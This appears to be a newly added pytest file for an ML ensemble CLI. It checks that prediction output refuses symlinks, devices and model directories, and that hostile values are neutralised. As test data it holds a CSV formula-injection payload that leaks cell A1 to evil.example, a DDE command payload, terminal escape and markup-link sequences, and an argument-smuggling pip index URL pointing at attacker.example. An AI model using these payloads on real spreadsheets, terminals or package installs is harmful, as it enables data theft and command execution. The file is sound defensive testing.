@@ -1,0 +1,159 @@
+"""What `-o` may write over, what output CSVs hold, and what the CLI echoes from files."""
+
+import json
+import os
+import shutil
+import stat
+import subprocess
+import sys
+import threading
+
+import pandas as pd
+import pytest
+
+from engine import Ensemble, load
+from engine.cli import main
+from engine.testing import make_text_dataset
+
+EVIL_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+LABELS = ["=cmd|' /C calc'!A0", "@SUM(1+1)"]
+
+
+@pytest.fixture(scope="module")
+def workspace(tmp_path_factory):
+    root = tmp_path_factory.mktemp("outputs")
+    X, y = make_text_dataset(2, n_per_class=30, seed=4)
+    labels = [LABELS[c] for c in y]
+    train = pd.DataFrame({"id": range(len(X)), "text": X, "target": labels})
+    Ensemble({"nb": "tfidf-nb"}, cv=2, random_state=0).fit(train, train["target"]).save(
+        root / "model", {"text": "text", "id": "id", "label": "target"})
+    test = pd.DataFrame({"id": [EVIL_ID, "-12", "+3", "@me", "plain"], "text": X[:5]})
+    test.to_csv(root / "test.csv", index=False)
+    return root
+
+
+def predict(workspace, output, *extra):
+    return main(["predict", str(workspace / "model"), str(workspace / "test.csv"), "-o",
+                 str(output), *extra])
+
+
+def test_formula_like_cells_get_an_apostrophe_and_numbers_stay(workspace, tmp_path):
+    out = tmp_path / "p.csv"
+    assert predict(workspace, out) == 0
+    rows = pd.read_csv(out, dtype=str)
+    assert rows["id"].tolist() == ["'" + EVIL_ID, "-12", "+3", "'@me", "plain"]
+    assert set(rows["label"]) <= {"'" + label for label in LABELS}
+    assert not any(cell.startswith(("=", "@")) for cell in rows.to_numpy().ravel())
+
+
+def test_dash_o_dash_streams_csv_to_stdout_and_messages_to_stderr(workspace, capfd):
+    assert predict(workspace, "-") == 0
+    out, err = capfd.readouterr()
+    assert out.splitlines()[0].startswith("id,label,proba_")
+    assert len(out.splitlines()) == 6 and "wrote 5 predictions to -" in err
+
+
+def test_a_fifo_is_streamed_through_and_stays_a_fifo(workspace, tmp_path):
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    received = []
+    reader = threading.Thread(target=lambda: received.append(fifo.read_text()))
+    reader.start()
+    assert predict(workspace, fifo) == 0
+    reader.join(30)
+    assert received and len(received[0].splitlines()) == 6
+    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
+
+
+def make_char_device(tmp_path):
+    """A real character device: a copy of /dev/null where we may make one, else /dev/null."""
+    if os.geteuid() == 0:
+        device = tmp_path / "null-device"
+        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
+        return device
+    return "/dev/null"
+
+
+def test_a_character_device_is_refused_and_left_as_it_is(workspace, tmp_path, capsys):
+    device = make_char_device(tmp_path)
+    assert predict(workspace, device) == 2
+    err = capsys.readouterr().err
+    assert "is a character device; refusing to replace it" in err and err.count("\n") == 1
+    assert stat.S_ISCHR(os.lstat(device).st_mode)
+    assert not [p for p in tmp_path.iterdir() if ".tmp-" in p.name]
+
+
+def test_a_symlink_is_refused_and_no_temporary_is_left(workspace, tmp_path, capsys):
+    target, link = tmp_path / "real.csv", tmp_path / "link.csv"
+    target.write_text("precious\n")
+    link.symlink_to(target)
+    assert predict(workspace, link) == 2
+    assert "is a symbolic link" in capsys.readouterr().err
+    assert link.is_symlink() and target.read_text() == "precious\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.csv", "real.csv"]
+
+
+def test_fit_onto_a_symlink_leaves_no_temporary_link(workspace, tmp_path, capsys):
+    X, y = make_text_dataset(2, n_per_class=10, seed=5)
+    pd.DataFrame({"text": X, "target": y}).to_csv(tmp_path / "train.csv", index=False)
+    config = tmp_path / "c.toml"
+    config.write_text(f'name = "x"\n[data]\ntrain = "{tmp_path / "train.csv"}"\n'
+                      f'[members.nb]\nplugin = "tfidf-nb"\n')
+    link = tmp_path / "link"
+    link.symlink_to(workspace / "model")
+    assert main(["fit", str(config), "-o", str(link)]) == 2
+    assert "symbolic link" in capsys.readouterr().err
+    assert not [p for p in tmp_path.iterdir() if ".tmp-" in p.name or ".save-" in p.name]
+    assert not [p for p in workspace.iterdir() if ".tmp-" in p.name]
+
+
+def test_outputs_inside_a_model_directory_are_refused(workspace, tmp_path, capsys):
+    model = tmp_path / "model"
+    shutil.copytree(workspace / "model", model)
+    assert predict(workspace, model / "predictions.csv") == 2
+    assert "inside the model directory" in capsys.readouterr().err
+    assert main(["report", str(model), str(workspace / "test.csv"), "--label", "id", "-o",
+                 str(model / "members" / "r.html")]) == 2
+    assert load(model).predict(["a text"]).shape == (1,)  # still loadable
+
+
+def test_unknown_id_column_is_a_one_line_error(workspace, tmp_path, capsys):
+    assert predict(workspace, tmp_path / "p.csv", "--id", "nosuchcol") == 2
+    err = capsys.readouterr().err
+    assert "column 'nosuchcol' not found" in err and err.count("\n") == 1
+    assert not (tmp_path / "p.csv").exists()
+
+
+@pytest.fixture
+def hostile(workspace, tmp_path):
+    """A model whose manifest carries terminal escapes and rich markup (not hashed: loads)."""
+    model = tmp_path / "model"
+    shutil.copytree(workspace / "model", model)
+    manifest = json.loads((model / "manifest.json").read_text())
+    manifest["members"][0]["name"] = "nb\x1b]0;pwned\x07\x1b[2J[link=https://evil.example]x[/link]"
+    manifest["members"][0]["version"] = "0\x1b[31m"
+    (model / "manifest.json").write_text(json.dumps(manifest))
+    return model
+
+
+def test_echoed_manifest_text_has_no_control_characters_or_markup(hostile):
+    # the real command, so warnings are shown as a user sees them (pytest records its own)
+    done = subprocess.run([sys.executable, "-m", "engine.cli", "evaluate", str(hostile)],
+                          capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=300)
+    assert done.returncode == 0, done.stderr
+    out, err = done.stdout, done.stderr
+    assert "\x1b" not in out + err and "\x07" not in out + err
+    assert "\\x1b]0;pwned" in out  # shown, harmlessly
+    assert "[link=https://evil.example]" in out  # as text, not as a hyperlink
+    assert "warning: plugin 'tfidf-nb' was saved with version 0\\x1b[31m" in err
+
+
+def test_a_missing_plugins_package_is_shown_only_if_it_is_a_package_name(hostile, capsys):
+    manifest = json.loads((hostile / "manifest.json").read_text())
+    manifest["members"][0].update(plugin="no-such-plugin",
+                                  package="x --index-url https://attacker.example/simple")
+    (hostile / "manifest.json").write_text(json.dumps(manifest))
+    assert main(["evaluate", str(hostile)]) == 2
+    err = capsys.readouterr().err
+    assert "attacker" not in err and "pip install" not in err and "\x1b" not in err
+    assert "not a valid package name" in err and err.count("\n") == 1
